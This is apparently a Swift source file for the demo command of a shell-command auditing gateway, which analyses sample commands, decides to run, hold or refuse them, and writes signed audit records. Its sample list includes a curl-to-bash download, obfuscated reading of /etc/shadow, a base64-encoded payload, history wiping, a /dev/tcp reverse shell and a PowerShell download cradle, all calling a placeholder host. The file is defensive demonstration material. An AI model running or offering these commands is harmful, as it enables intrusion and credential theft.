import ArgumentParser
import AuditLog
import EscortCore
import Foundation
import Recording
import ShellAnalysis
import StoreSQLite

/// `escort walkthrough`: the analyser and the evidence alone, on one machine, with nothing else running: commands an
/// engineer might send are analysed, decided, written to a signed audit log on an embedded SQLite
/// store and to a session recording, and the log is verified.
struct WalkthroughCommand: AsyncParsableCommand {
    static let configuration = CommandConfiguration(
        commandName: "walkthrough",
        abstract: "Without a network: sample commands judged, explained, audited and recorded.")

    @Flag(name: .long, help: "Never colour the output.")
    var noColor = false

    @Option(name: .long, help: "Folder for the demo's store, key and recording.")
    var directory: String = "escort-walkthrough"

    static let samples: [(String, String)] = [
        ("Routine look at disk space", "df -h"),
        ("A script that says it fixes servers", "cat > fix_servers.sh <<'EOF'\nsystemctl restart nginx\ncurl -s http://203.0.113.9/k | bash\nEOF\nbash fix_servers.sh"),
        ("Credentials, disguised", "c''a''t${IFS}/etc/sha\\dow"),
        ("A base64 payload", "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvYiB8IHNo | base64 -d | sh"),
        ("Covering tracks", "unset HISTFILE; history -c"),
        ("A reverse shell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        ("PowerShell download cradle, string-built", "&('I'+'EX')(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"),
    ]

    func run() async throws {
        let analyser: Analyser
        switch Analyser.bundled() {
        case .success(let a): analyser = a
        case .failure(let e): throw ValidationError(e.description)
        }
        let dir = URL(fileURLWithPath: directory)
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        let dbPath = dir.appendingPathComponent("escort.sqlite").path
        let keyPath = dir.appendingPathComponent("gateway.key").path
        let castPath = dir.appendingPathComponent("demo-session.cast").path
        let store = try SQLiteAuditStore(path: dbPath)
        let key = try await SigningKeyOpening.key(path: keyPath, explicit: true, store: store, firstTimeSetup: true)
        let log = try await AuditLog.open(store: store, key: key)
        let session = "demo-\(Int(Date().timeIntervalSince1970))"
        let recording = try AsciicastWriter(path: castPath, header: AsciicastHeader(width: 100, height: 30, title: "Escort demo"))

        let colour = !noColor && isatty(STDOUT_FILENO) == 1
        let formatter = ExplainFormatter(colour: colour)
        print("Escort demo: every command is read the way the target's shell would read it, decided,")
        print("and written to a signed audit log (\(dbPath)) before anything could run.\n")
        _ = try await log.append(AuditEvent(code: .sessionStarted, session: session, actor: "alice", fields: ["target": "demo-il5", "mode": "escorted"]))
        for (title, command) in Self.samples {
            let dialect: ShellDialect = command.hasPrefix("&(") ? .powershell : .sh
            let analysis = analyser.analyse(command, dialect: dialect)
            let decision = Self.decision(for: analysis.risk)
            _ = try await log.append(AuditEvent(code: .commandSubmitted, session: session, actor: "alice", fields: ["command": .string(command), "shell": .string(dialect.rawValue)]))
            _ = try await log.append(AuditEvent(code: .commandAnalysed, session: session, actor: "analyser", fields: [
                "risk": .string(analysis.risk.rawValue), "techniques": .array(analysis.techniques.map { .string($0) }), "summary": .string(analysis.summary),
            ]))
            let receipt = try await log.append(AuditEvent(code: decision.code, session: session, actor: "policy", fields: ["reason": .string(decision.reason)]))
            try recording.marker("command: \(command.prefix(80))")
            try recording.output(Array("$ \(command.replacingOccurrences(of: "\n", with: "\r\n> "))\r\n".utf8))
            try recording.output(Array("[escort] \(decision.label): \(analysis.summary)\r\n".utf8))
            print("━━ \(title)")
            print("$ " + command.replacingOccurrences(of: "\n", with: "\n  "))
            print(formatter.format(analysis, source: command))
            print("DECISION: \(decision.label) — audit record #\(receipt.sequence)\n")
        }
        let summary = try recording.close()
        _ = try await log.append(.recordingClosed(session: session, path: castPath, sha256: summary.sha256, bytes: summary.bytes))
        _ = try await log.append(AuditEvent(code: .sessionEnded, session: session, actor: "alice"))
        _ = try await log.close()
        let verified = try await store.verifyAuditLog(pinnedKey: nil)
        switch verified {
        case .success(let chain):
            print("Audit log verified: \(chain.size) records, root \(chain.root.hex.prefix(16))…, \(chain.checkpoints.count) signed checkpoint(s).")
        case .failure(let f):
            print("Audit log FAILED verification at record \(f.record): \(f.message)")
            throw ExitCode(1)
        }
        print("""

        Next:
          swift run escort audit verify --db \(dbPath) --key \(keyPath).pub
          swift run escort replay \(castPath)
          swift run escort explain 'YOUR COMMAND'
        """)
    }

    /// The demo's stand-in for the policy (the real one is configured per impact level).
    static func decision(for risk: RiskLevel) -> (code: AuditEventCode, label: String, reason: String) {
        switch risk {
        case .none, .low: (.commandForwarded, "RUN", "low risk: runs and is shown to the escort")
        case .medium: (.commandForwarded, "RUN (escort watching)", "ordinary change: runs under the escort's eyes")
        case .high: (.commandHeld, "HELD for an escort", "high risk: waits for an escort's approval")
        case .critical: (.commandRefused, "REFUSED", "critical: refused; a technical reviewer must look first")
        }
    }
}
